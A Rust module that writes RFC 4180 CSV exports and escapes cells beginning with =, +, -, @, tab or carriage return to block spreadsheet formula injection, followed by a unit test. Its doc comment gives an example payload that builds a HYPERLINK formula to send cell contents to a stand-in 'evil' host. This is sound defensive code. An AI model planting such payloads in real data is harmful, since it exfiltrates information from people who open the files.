//! CSV documents custodia hands out (registers, export packages): RFC 4180
//! through the `csv` crate, CRLF line ends, and every cell guarded against
//! formula injection.
//!
//! A spreadsheet opening a CSV runs a cell that starts with `=`, `+`, `-` or
//! `@` (and, in some, a tab or carriage return) as a formula: a subject's name
//! typed as `=HYPERLINK("http://evil/?"&A1)` in a web form would run on the
//! DPO's machine. Such a cell is written with a leading `'` (OWASP, "CSV
//! Injection"), which spreadsheets show as text; a plain number (`-12.5`) is
//! left alone, as it is no formula.

use std::io::Write;

/// A writer of CSV rows to `w`, with CRLF line ends.
#[derive(Debug)]
pub struct CsvWriter<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> CsvWriter<W> {
    /// Rows written to `w`.
    pub fn new(w: W) -> Self {
        Self {
            inner: csv::WriterBuilder::new()
                .terminator(csv::Terminator::CRLF)
                .from_writer(w),
        }
    }

    /// Writes one row, each cell guarded ([`guard`]).
    pub fn row<I, S>(&mut self, cells: I) -> std::io::Result<()>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.inner
            .write_record(cells.into_iter().map(|c| guard(c.as_ref()).into_owned()))
            .map_err(std::io::Error::other)
    }

    /// Flushes and hands the underlying writer back.
    pub fn finish(self) -> std::io::Result<W> {
        self.inner
            .into_inner()
            .map_err(|e| std::io::Error::other(e.to_string()))
    }
}

/// A whole document: `header` then `rows`.
pub fn document<R, I, S>(header: &[&str], rows: R) -> String
where
    R: IntoIterator<Item = I>,
    I: IntoIterator<Item = S>,
    S: AsRef<str>,
{
    let mut w = CsvWriter::new(Vec::new());
    // Writing to memory cannot fail.
    w.row(header).expect("in memory");
    for r in rows {
        w.row(r).expect("in memory");
    }
    String::from_utf8(w.finish().expect("in memory")).expect("cells are UTF-8")
}

/// `cell` as a spreadsheet will take it as text: with a leading `'` when it
/// would start a formula.
pub fn guard(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && cell.parse::<f64>().is_err() {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_defused_and_quoting_is_rfc_4180() {
        let doc = document(
            &["name", "note"],
            [
                ["=HYPERLINK(\"http://x\")", "say \"hi\", then\nleave"],
                ["@SUM(A1)", "+33 6 12"],
                ["-12.5", "-cmd"],
                ["Ada", ""],
            ],
        );
        assert_eq!(
            doc,
            "name,note\r\n\
             \"'=HYPERLINK(\"\"http://x\"\")\",\"say \"\"hi\"\", then\nleave\"\r\n\
             '@SUM(A1),'+33 6 12\r\n\
             -12.5,'-cmd\r\n\
             Ada,\r\n"
        );
        assert_eq!(guard("\tx"), "'\tx");
        assert_eq!(guard("plain"), "plain");
    }
}
